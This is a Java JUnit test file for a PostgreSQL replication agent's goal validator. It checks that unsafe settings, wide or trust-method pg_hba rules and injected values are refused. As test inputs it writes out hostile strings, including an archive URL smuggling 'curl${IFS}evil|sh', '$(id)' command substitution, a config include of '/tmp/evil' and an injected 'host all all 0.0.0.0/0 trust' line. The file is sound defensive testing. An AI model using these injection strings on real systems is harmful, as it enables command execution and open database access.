package io.pgferry.agent.goal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.pgferry.agent.config.AgentConfig;
import io.pgferry.common.StrictYaml;
import io.pgferry.proto.ExportSnapshot;
import io.pgferry.proto.Goal;
import io.pgferry.proto.HbaRule;
import io.pgferry.proto.NodeState;
import io.pgferry.proto.Upstream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each thing a goal may not carry is refused with a sentence naming it; what pgferry sends passes. */
class GoalValidatorTest {
  private static final GoalValidator PG15 = new GoalValidator(GoalLimits.STRICT, 15);

  /** Whole messages the tests saw for the rows of docs/operations.md's table of refused goals. */
  private static final List<String> SEEN = new CopyOnWriteArrayList<>();

  /** Each message seen is in the table word for word, and each message the table shows was seen. */
  @AfterAll
  static void theRefusedGoalTableInTheDocsShowsWhatTheAgentReports() throws Exception {
    String doc = Files.readString(Path.of("../docs/operations.md"));
    String table = doc.substring(doc.indexOf("| goal carries | reported in last_error |"));
    table = table.substring(0, table.indexOf("\n#"));
    for (String m : SEEN) {
      assertTrue(table.contains("`" + m + "`"), "docs/operations.md, refused goals: no `" + m + "`");
    }
    List<String> shown = new ArrayList<>();
    for (String row : table.lines().skip(2).toList()) {
      Matcher m = Pattern.compile("`([^`]+)`").matcher(row.substring(row.indexOf(" | ") + 3));
      while (m.find()) {
        shown.add(m.group(1));
      }
    }
    for (String m : shown) {
      assertTrue(SEEN.contains(m), "docs/operations.md, refused goals: no test sees `" + m + "`");
    }
  }

  private static HbaRule.Builder rule() {
    return HbaRule.newBuilder().setType("host").setDatabase("replication").setUser("replicator")
        .setAddress("10.0.0.6/32").setMethod("scram-sha-256");
  }

  private static Goal primaryWith(UnaryOperator<HbaRule.Builder> change) {
    return Goal.newBuilder().setState(NodeState.PRIMARY).setGeneration(3).addHbaRules(change.apply(rule())).build();
  }

  private static String onlyProblem(GoalValidator v, Goal g) {
    List<String> p = v.problems(g);
    assertEquals(1, p.size(), p.toString());
    return p.get(0);
  }

  @Test
  void whatPgferrySendsIsAccepted() {
    Goal g = Goal.newBuilder().setState(NodeState.PRIMARY).setGeneration(7)
        .putSettings("synchronous_standby_names", "pgferry_b")
        .putSettings("synchronized_standby_slots", "pgferry_b_slot")
        .putSettings("max_slot_wal_keep_size", "50GB")
        .addHbaRules(rule())
        .addHbaRules(rule().setType("hostssl").setDatabase("appdb").setUser("pgferry_repl").setAddress("fd00::7/128"))
        .addHbaRules(rule().setAddress("b.internal").setMethod("cert"))
        .addHbaRules(rule().setType("hostssl").setDatabase("replication").setUser("").setAddress("10.0.0.6/32")
            .setMethod("cert").setClientCn("agent-b"))
        .addHbaRules(rule().setType("hostssl").setDatabase("all").setUser("pgferry_controller").setAddress("10.0.0.9/32")
            .setMethod("cert").setClientCn("controller")) // the controller's certificate as its least-privilege role
        .build();
    assertEquals(List.of(), PG15.problems(g));
    Goal standby = Goal.newBuilder().setState(NodeState.STREAMING_STANDBY).setGeneration(2)
        .setUpstream(Upstream.newBuilder().setHost("10.0.0.5").setPort(5432).setUser("replicator")
            .setApplicationName("pgferry_b").setSlotName("pgferry_b").setDbname("appdb").setPasswordFile("/etc/pgferry/pgpass"))
        .setArchiveUrl("s3://heroku-wal/app-1/wal").addLogicalSlots("pgferry_sub")
        .putAllSettings(Map.of("hot_standby_feedback", "on", "wal_level", "logical", "sync_replication_slots", "on"))
        .build();
    assertEquals(List.of(), PG15.problems(standby));
  }

  @Test
  void anExportedSnapshotIsAPrimarysPgoutputSlotWithAnAttemptId() {
    ExportSnapshot ok = ExportSnapshot.newBuilder().setAttempt("c-1f2e3d4c5b6a7988").setSlotName("pgferry_sub")
        .setPlugin("pgoutput").setDatabase("appdb").setFailover(true).build();
    Goal primary = Goal.newBuilder().setState(NodeState.PRIMARY).setGeneration(4).setExportSnapshot(ok).build();
    assertEquals(List.of(), PG15.problems(primary));
    assertTrue(onlyProblem(PG15, primary.toBuilder().setState(NodeState.STREAMING_STANDBY).build()).startsWith("export_snapshot: only a PRIMARY"));
    assertTrue(onlyProblem(PG15, primary.toBuilder().setExportSnapshot(ok.toBuilder().setSlotName("Sub; DROP")).build())
        .startsWith("export_snapshot.slot_name"));
    assertTrue(onlyProblem(PG15, primary.toBuilder().setExportSnapshot(ok.toBuilder().setPlugin("wal2json")).build())
        .startsWith("export_snapshot.plugin"));
    assertTrue(onlyProblem(PG15, primary.toBuilder().setExportSnapshot(ok.toBuilder().setAttempt("")).build())
        .startsWith("export_snapshot.attempt"));
    assertTrue(onlyProblem(PG15, primary.toBuilder().setExportSnapshot(ok.toBuilder().setDatabase("app db")).build())
        .startsWith("export_snapshot.database"));
  }

  @Test
  void aCertificateRuleStaysNarrow() {
    Goal wide = Goal.newBuilder().setState(NodeState.PRIMARY).addHbaRules(rule().setType("hostssl").setDatabase("replication")
        .setUser("").setAddress("0.0.0.0/0").setMethod("cert").setClientCn("agent-b")).build();
    assertEquals(1, PG15.problems(wide).size(), "a cert rule is held to the same addresses: " + PG15.problems(wide));
    Goal notCert = Goal.newBuilder().setState(NodeState.PRIMARY).addHbaRules(rule().setType("hostssl").setUser("")
        .setMethod("trust").setClientCn("agent-b")).build();
    assertTrue(PG15.problems(notCert).stream().anyMatch(m -> m.contains("client_cn goes with hostssl and method cert")),
        PG15.problems(notCert).toString());
    Goal oddName = Goal.newBuilder().setState(NodeState.PRIMARY).addHbaRules(rule().setType("hostssl").setUser("")
        .setMethod("cert").setClientCn("agent-b\" \"root")).build();
    assertEquals(1, PG15.problems(oddName).size(), PG15.problems(oddName).toString());
  }

  @ParameterizedTest
  @ValueSource(strings = {"archive_command", "restore_command", "shared_preload_libraries", "ssl_key_file",
      "ssl_cert_file", "ssl_passphrase_command", "port", "listen_addresses", "recovery_end_command"})
  void settingsOutsideTheAllowListAreRefused(String key) {
    Goal g = Goal.newBuilder().setState(NodeState.PRIMARY).putSettings(key, "x").build();
    String p = onlyProblem(PG15, g);
    assertTrue(p.contains("'" + key + "' is not a setting a goal may carry"), p);
    if (key.equals("archive_command")) {
      SEEN.add(p);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"lots", "50 GB", "1e9", "50GiB", ""})
  void maxSlotWalKeepSizeMustBeASize(String value) {
    Goal g = Goal.newBuilder().setState(NodeState.PRIMARY).putSettings("max_slot_wal_keep_size", value).build();
    String p = onlyProblem(PG15, g);
    assertTrue(p.startsWith("settings.max_slot_wal_keep_size: '"), p);
  }

  @ParameterizedTest
  @ValueSource(strings = {"pgferry_b'\ninclude '/tmp/evil", "a\nb", "a\"b", "a\\b", "a\0b", "line\rbreak"})
  void settingValuesWithQuotesNewlinesBackslashOrNulAreRefused(String value) {
    Goal g = Goal.newBuilder().setState(NodeState.PRIMARY).putSettings("synchronous_standby_names", value).build();
    String p = onlyProblem(PG15, g);
    assertTrue(p.startsWith("settings.synchronous_standby_names: the value"), p);
    assertTrue(!p.contains("\n") && !p.contains("\0"), "the message stays one printable line: " + p);
    if (value.equals("a\nb")) {
      SEEN.add(p);
    }
  }

  @Test
  void theAttackLineIsRefusedForItsAddressAndItsMethod() {
    List<String> p = PG15.problems(primaryWith(r -> r.setDatabase("all").setUser("all").setAddress("0.0.0.0/0").setMethod("trust")));
    assertEquals(2, p.size(), p.toString());
    assertTrue(p.get(0).contains("'0.0.0.0/0' admits every address"), p.get(0));
    assertTrue(p.get(1).contains("method trust"), p.get(1));
    SEEN.addAll(p);
  }

  @ParameterizedTest
  @ValueSource(strings = {"password", "ident", "peer", "reject", "ldap", "scram-sha-256 clientcert=verify-ca", ""})
  void otherMethodsAreRefused(String method) {
    String p = onlyProblem(PG15, primaryWith(r -> r.setMethod(method)));
    assertTrue(p.startsWith("hba_rules[0]: method '" + method + "' is not accepted"), p);
  }

  @Test
  void md5OnlyUpToPostgres13AndTrustOnlyWhenAgentYamlAllowsIt() {
    assertTrue(onlyProblem(PG15, primaryWith(r -> r.setMethod("md5"))).contains("md5 is accepted only on PostgreSQL 13 and older"));
    assertEquals(List.of(), new GoalValidator(GoalLimits.STRICT, 13).problems(primaryWith(r -> r.setMethod("md5"))));
    assertEquals(List.of(), new GoalValidator(new GoalLimits(false, true), 15).problems(primaryWith(r -> r.setMethod("trust"))));
  }

  @ParameterizedTest
  @ValueSource(strings = {"10.0.0.0/8", "10.0.0.0/15", "fd00::/32", "fd00::/47"})
  void addressesWiderThanTheLimitAreRefusedUnlessAllowed(String cidr) {
    String p = onlyProblem(PG15, primaryWith(r -> r.setAddress(cidr)));
    assertTrue(p.contains("'" + cidr + "' is wider than /"), p);
    if (cidr.equals("10.0.0.0/8")) {
      SEEN.add(p);
    }
    assertEquals(List.of(), new GoalValidator(new GoalLimits(true, false), 15).problems(primaryWith(r -> r.setAddress(cidr))));
  }

  @ParameterizedTest
  @ValueSource(strings = {"0.0.0.0/0", "::/0"})
  void everyAddressIsRefusedEvenWhenWideAddressesAreAllowed(String cidr) {
    String p = onlyProblem(new GoalValidator(new GoalLimits(true, true), 15), primaryWith(r -> r.setAddress(cidr)));
    assertTrue(p.contains("admits every address"), p);
  }

  @ParameterizedTest
  @ValueSource(strings = {"all", "samenet", "samehost", ".example.com", "10.0.0.7", "10.0.0.300/32", "10.0.0.7/33",
      "10.0.0.7/32 trust", "host\nhost all all 0.0.0.0/0 trust"})
  void addressesThatAreNotOneCidrOrHostNameAreRefused(String address) {
    String p = onlyProblem(PG15, primaryWith(r -> r.setAddress(address)));
    assertTrue(p.startsWith("hba_rules[0]: ") && p.contains("address '"), p);
    assertTrue(!p.contains("\n"), p);
  }

  @Test
  void typesAndNamesAreChecked() {
    String local = onlyProblem(PG15, primaryWith(r -> r.setType("local")));
    assertTrue(local.contains("type 'local' is not host or hostssl"), local);
    SEEN.add(local);
    assertTrue(onlyProblem(PG15, primaryWith(r -> r.setType("hostnossl"))).contains("type 'hostnossl'"));
    for (String name : List.of("\"all\"", "app db", "a,b", "@users", "+admins", "x\ny", "")) {
      String p = onlyProblem(PG15, primaryWith(r -> r.setUser(name)));
      assertTrue(p.startsWith("hba_rules[0].user '") && p.contains("is not a plain name"), p);
      if (name.equals("\"all\"")) {
        SEEN.add(p);
      }
      String d = onlyProblem(PG15, primaryWith(r -> r.setDatabase(name)));
      assertTrue(d.startsWith("hba_rules[0].database '"), d);
    }
  }

  @Test
  void anArchiveUrlCannotCarryAShellCommand() {
    for (String url : List.of("s3://bucket/prefix;curl${IFS}evil|sh", "file:///tmp/a b", "s3://bucket/x`id`", "s3://bucket/$(id)")) {
      String p = onlyProblem(PG15, Goal.newBuilder().setState(NodeState.ARCHIVE_REPLICA).setArchiveUrl(url).build());
      assertTrue(p.startsWith("archive_url '") && p.contains("restore_command"), p);
      if (url.endsWith("$(id)")) {
        SEEN.add(p);
      }
    }
    String p = onlyProblem(PG15, Goal.newBuilder().setState(NodeState.ARCHIVE_REPLICA).setArchiveUrl("http://evil/x").build());
    assertTrue(p.contains("scheme 'http' is not supported"), p);
  }

  @Test
  void upstreamFieldsAreChecked() {
    Goal g = Goal.newBuilder().setState(NodeState.STREAMING_STANDBY).setUpstream(Upstream.newBuilder()
        .setHost("10.0.0.5 options=-c").setPort(70000).setUser("rep'l").setSlotName("Bad-Slot")
        .setPasswordFile("relative/pgpass")).addLogicalSlots("x;y").build();
    List<String> p = PG15.problems(g);
    assertEquals(6, p.size(), p.toString());
    assertTrue(p.get(0).startsWith("upstream.host '10.0.0.5 options=-c'"), p.get(0));
    assertTrue(p.get(1).startsWith("upstream.port 70000"), p.get(1));
    assertTrue(p.get(2).startsWith("upstream.user: the value 'rep'l'"), p.get(2));
    assertTrue(p.get(3).startsWith("upstream.password_file 'relative/pgpass' is not an absolute path"), p.get(3));
    assertTrue(p.get(4).startsWith("upstream.slot_name 'Bad-Slot'"), p.get(4));
    assertTrue(p.get(5).startsWith("logical_slots[0] 'x;y'"), p.get(5));
  }

  @Test
  void onlyGoalStatesAreAccepted() {
    String p = onlyProblem(PG15, Goal.newBuilder().setState(NodeState.FAILED).build());
    assertTrue(p.startsWith("state FAILED is not a goal state"), p);
  }

  @Test
  void theGateReportsAndCountsADistinctRefusalOnceAndClearsOnAnAcceptedGoal() {
    GoalGate gate = new GoalGate(PG15);
    Goal bad = primaryWith(r -> r.setMethod("trust"));
    assertTrue(!gate.admit(bad));
    assertTrue(!gate.admit(bad), "a renewal of the same goal");
    assertEquals(1, gate.refusedCount());
    assertTrue(gate.refusal().startsWith("goal generation 3 refused: hba_rules[0]: method trust"), gate.refusal());
    assertTrue(gate.admit(primaryWith(r -> r)));
    assertEquals("", gate.refusal());
    assertEquals(1, gate.refusedCount());
  }

  @Test
  void agentYamlGoalsBlockBindsAndDefaultsToStrict() {
    var strict = StrictYaml.parse("agent.yaml", "node_id: a\n", AgentConfig.class);
    assertEquals(GoalLimits.STRICT, strict.goals().limits());
    var wide = StrictYaml.parse("agent.yaml", "node_id: a\ngoals: {allow_wide_address: true, allow_trust: true}\n",
        AgentConfig.class);
    assertEquals(new GoalLimits(true, true), wide.goals().limits());
  }
}
